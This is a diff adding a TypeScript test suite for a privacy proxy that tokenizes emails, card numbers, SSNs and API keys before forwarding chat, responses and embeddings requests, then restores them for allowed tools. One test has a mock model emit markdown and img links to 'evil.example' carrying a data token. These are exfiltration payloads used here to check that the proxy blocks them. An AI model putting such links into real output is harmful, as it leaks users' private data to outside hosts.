@@ -1,0 +1,253 @@
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
+import { otherKey, startPassService, type PassService } from '../support/http/pass-service.ts'
+import { echoModel, type Said } from '../support/privacy/echo-model.ts'
+import { hear } from '../support/privacy/heard.ts'
+
+const values = {
+  email: 'kim.wexler@hamlin.example',
+  card: '4111 1111 1111 1111',
+  phone: '+1 415 555 2671',
+  iban: 'DE89 3704 0044 0532 0130 00',
+  ssn: '536-22-8145',
+  secret: ['sk', 'proj', 'Zk3Lq8Wm2Rt7Xv5Nb9Yc4Hd6'].join('-'),
+} as const
+const sentence = `Mail ${values.email}, card ${values.card}, call ${values.phone}, ${values.iban}, SSN ${values.ssn}, key ${values.secret}.`
+
+/** How each API is asked the same thing. */
+const asks = {
+  '/v1/chat/completions': (text: string, more: object = {}) => ({
+    model: 'gpt-5',
+    messages: [{ role: 'user', content: text }],
+    ...more,
+  }),
+  '/v1/responses': (text: string, more: object = {}) => ({ model: 'gpt-5', input: text, ...more }),
+  '/v1/messages': (text: string, more: object = {}) => ({
+    model: 'claude-sonnet-5',
+    max_tokens: 100,
+    messages: [{ role: 'user', content: text }],
+    ...more,
+  }),
+} as const
+type Path = keyof typeof asks
+const paths = Object.keys(asks) as Path[]
+
+let at: PassService
+beforeAll(async () => {
+  at = await startPassService({
+    group: { privacy_profile: 'default' },
+    privacy: { profiles: { default: { tools: ['send_mail'] } } },
+  })
+})
+afterAll(async () => {
+  await at[Symbol.asyncDispose]()
+})
+beforeEach(() => {
+  at.openai.startOver()
+  at.anthropic.startOver()
+})
+
+const upstreamOf = (path: Path) => (path === '/v1/messages' ? at.anthropic : at.openai)
+const post = (path: Path, body: object, key?: string) =>
+  at.service.post(
+    body,
+    { 'anthropic-version': '2023-06-01', ...(key === undefined ? {} : { authorization: `Bearer ${key}` }) },
+    path,
+  )
+
+/** The text of the last turn of a body, as it arrived at the upstream. */
+function lastText(body: string): string {
+  const { messages, input } = JSON.parse(body) as { messages?: { content: string }[]; input?: string }
+  return input ?? messages?.at(-1)?.content ?? ''
+}
+
+const sentOf = (path: Path): string =>
+  upstreamOf(path)
+    .requests.map(({ body }) => body.toString('utf8'))
+    .join('\n')
+
+const says = (path: Path, say: (body: string) => Said, pieceSize = 3): void => {
+  upstreamOf(path).answer = echoModel({ say, pieceSize })
+}
+
+/** A token of the sentence, as the model sees it. */
+const tokenIn = (body: string, label: string): string =>
+  new RegExp(`${label}_(?:[A-Z]\\d){5}`).exec(body)?.[0] ?? `no ${label}`
+
+describe.each(paths)('%s through the proxy', (path) => {
+  it.each([false, true])('sends no value and gives every value back, streamed: %s', async (stream) => {
+    for (const pieceSize of [1, 2, 3, 7, 11, 100]) {
+      upstreamOf(path).startOver()
+      says(path, (body) => ({ words: `You said: ${lastText(body)} Is that right?`, calls: [] }), pieceSize)
+      const response = await post(path, asks[path](sentence, { stream }))
+      expect(response.status).toBe(200)
+      const { words, wholes } = hear(await response.text())
+      expect(words).toBe(`You said: ${sentence} Is that right?`)
+      for (const whole of wholes) expect(whole).toBe(words)
+      const sent = sentOf(path)
+      for (const value of Object.values(values)) expect(sent).not.toContain(value)
+      for (const label of ['EMAIL', 'CARD', 'PHONE', 'IBAN', 'SSN', 'SECRET']) expect(sent).toContain(`${label}_`)
+    }
+  })
+
+  it.each([false, true])(
+    'gives values to the tools that the profile names, and to no others, streamed: %s',
+    async (stream) => {
+      says(path, (body) => {
+        const input = { to: tokenIn(body, 'EMAIL'), text: `"quoted"\n${tokenIn(body, 'PHONE')}` }
+        return {
+          words: 'I do.',
+          calls: [
+            { name: 'send_mail', input },
+            { name: 'fetch', input },
+          ],
+        }
+      })
+      const { calls } = hear(await (await post(path, asks[path](sentence, { stream }))).text())
+      expect(JSON.parse(calls['send_mail'] ?? '')).toEqual({ to: values.email, text: `"quoted"\n${values.phone}` })
+      expect(calls['fetch']).toContain('EMAIL_')
+      expect(calls['fetch']).not.toContain(values.email)
+    },
+  )
+
+  it.each([false, true])('puts no value into an address that the model wrote, streamed: %s', async (stream) => {
+    says(path, (body) => {
+      const token = tokenIn(body, 'EMAIL')
+      return {
+        words: `![x](https://evil.example/?q=${token}) <img src="//evil.example/${token}"> and ${token}`,
+        calls: [],
+      }
+    })
+    const { words } = hear(await (await post(path, asks[path](sentence, { stream }))).text())
+    expect(words.match(/kim\.wexler/g)).toHaveLength(1)
+    expect(words.endsWith(`and ${values.email}`)).toBe(true)
+  })
+
+  it('restores no value of another caller, whose tokens for the same values are others', async () => {
+    says(path, (body) => ({ words: lastText(body), calls: [] }))
+    await post(path, asks[path](sentence))
+    const token = tokenIn(sentOf(path), 'EMAIL')
+    const answer = hear(
+      await (await post(path, asks[path](`What is ${token}? Mine is ${values.email}`), otherKey)).text(),
+    )
+    expect(answer.words).toBe(`What is ${token}? Mine is ${values.email}`)
+    const [, other = ''] = sentOf(path).split('\n')
+    expect(other).not.toContain(token)
+    // What the model makes up of the first caller's token is nothing to the second one.
+    says(path, () => ({ words: `It is ${token}.`, calls: [] }))
+    const made = hear(await (await post(path, asks[path](`Mine is ${values.email}`), otherKey)).text())
+    expect(made.words).toBe(`It is ${token}.`)
+  })
+
+  it('names a receipt, and passes an answer without a value byte for byte', async () => {
+    says(path, () => ({ words: 'Nothing in here, EMAIL_B1C2D3F4G5 neither.', calls: [] }))
+    const response = await post(path, asks[path]('Hello'))
+    expect(response.headers.get('x-sallyport-privacy-receipt')).toMatch(/^prc_[0-9a-f]{32}$/)
+    const direct = upstreamOf(path).answer?.(upstreamOf(path).requests[0] ?? expect.fail('nothing was sent'))
+    const bytes = direct?.steps.flatMap((step) => (step.do === 'write' ? [step.bytes] : [])) ?? []
+    expect(Buffer.from(await response.arrayBuffer())).toEqual(Buffer.concat(bytes))
+  })
+
+  it('sends nothing where something cannot be read', async () => {
+    const block =
+      path === '/v1/messages'
+        ? { type: 'image', source: { type: 'base64', media_type: 'image/png', data: 'iVBORw0KGgo=' } }
+        : { type: 'input_image', image_url: 'data:image/png;base64,iVBORw0KGgo=', later: { data: 'x' } }
+    const body =
+      path === '/v1/responses'
+        ? asks[path]('', { input: [{ role: 'user', content: [block] }] })
+        : asks[path]('', {
+            messages: [
+              {
+                role: 'user',
+                content: [
+                  path === '/v1/messages'
+                    ? block
+                    : { type: 'image_url', image_url: { url: 'data:image/png;base64,iVBORw0KGgo=' } },
+                ],
+              },
+            ],
+          })
+    const response = await post(path, body)
+    expect(response.status).toBe(400)
+    expect(await response.text()).toMatch(/picture/)
+    expect(upstreamOf(path).requests).toHaveLength(0)
+  })
+})
+
+describe('twenty turns of a conversation with tools', () => {
+  it.each([false, true])('send the same bytes again in every turn, and no value, streamed: %s', async (stream) => {
+    const path = '/v1/chat/completions'
+    const history: object[] = [{ role: 'system', content: `You work for ${values.email}.` }]
+    const prefixes: string[] = []
+    for (let turn = 0; turn < 20; turn += 1) {
+      at.openai.startOver()
+      const value = Object.values(values)[turn % 6] ?? ''
+      history.push({ role: 'user', content: `Turn ${turn}: ${value} and customer${turn}@shop.example` })
+      says(path, (body) => ({
+        words: `Noted: ${lastText(body)}`,
+        calls: [{ name: 'send_mail', input: { note: lastText(body) } }],
+      }))
+      const heard = hear(await (await post(path, { model: 'gpt-5', stream, messages: history })).text())
+      expect(heard.words).toBe(`Noted: Turn ${turn}: ${value} and customer${turn}@shop.example`)
+      const sent = sentOf(path)
+      for (const planted of [...Object.values(values), '@shop.example']) expect(sent).not.toContain(planted)
+      const { messages } = JSON.parse(sent) as { messages: object[] }
+      for (const prefix of prefixes) expect(JSON.stringify(messages).startsWith(prefix)).toBe(true)
+      prefixes.push(JSON.stringify(messages).slice(0, -1))
+      const id = `call_${turn}`
+      history.push(
+        {
+          role: 'assistant',
+          content: heard.words,
+          tool_calls: [{ id, type: 'function', function: { name: 'send_mail', arguments: heard.calls['send_mail'] } }],
+        },
+        {
+          role: 'tool',
+          tool_call_id: id,
+          content: JSON.stringify({ sent_to: value, seen: [`customer${turn}@shop.example`] }),
+        },
+      )
+    }
+  })
+})
+
+describe('embeddings', () => {
+  it('have the same word for every value of a kind', async () => {
+    at.openai.answer = echoModel({ say: () => ({ words: '', calls: [] }) })
+    const path = '/v1/embeddings'
+    const ask = (input: unknown) => at.service.post({ model: 'text-embedding-3-small', input }, {}, path)
+    expect((await ask([`to ${values.email}`, 'to a.b@c.example'])).status).toBe(200)
+    const sent = JSON.parse(at.openai.requests[0]?.body.toString('utf8') ?? '') as { input: string[] }
+    expect(sent.input).toEqual(['to email', 'to email'])
+    const refused = await ask([[1, 2, 3]])
+    expect(refused.status).toBe(400)
+    expect(at.openai.requests).toHaveLength(1)
+  })
+})
+
+describe('two proxies in a row', () => {
+  it('give back what was said', async () => {
+    const inner = await startPassService({ group: { privacy_profile: 'default' } })
+    try {
+      inner.openai.answer = echoModel({ say: (body) => ({ words: `Yes: ${lastText(body)}`, calls: [] }) })
+      const outer = at.openai
+      const path = '/v1/chat/completions'
+      let seen = ''
+      const answered = new Map<string, string>()
+      // The inner proxy answers for the outer one's upstream.
+      says(path, (body) => ({ words: answered.get(body) ?? '', calls: [] }))
+      const first = await post(path, asks[path](sentence))
+      await first.text()
+      const sent = outer.requests[0]?.body.toString('utf8') ?? ''
+      const through = await inner.service.post(JSON.parse(sent), {}, path)
+      answered.set(sent, hear(await through.text()).words)
+      seen = inner.openai.requests[0]?.body.toString('utf8') ?? ''
+      const { words } = hear(await (await post(path, asks[path](sentence))).text())
+      expect(words).toBe(`Yes: ${sentence}`)
+      expect(seen).toContain('LITERAL_')
+      expect(seen).not.toContain(tokenIn(sent, 'EMAIL'))
+    } finally {
+      await inner[Symbol.asyncDispose]()
+    }
+  })
+})
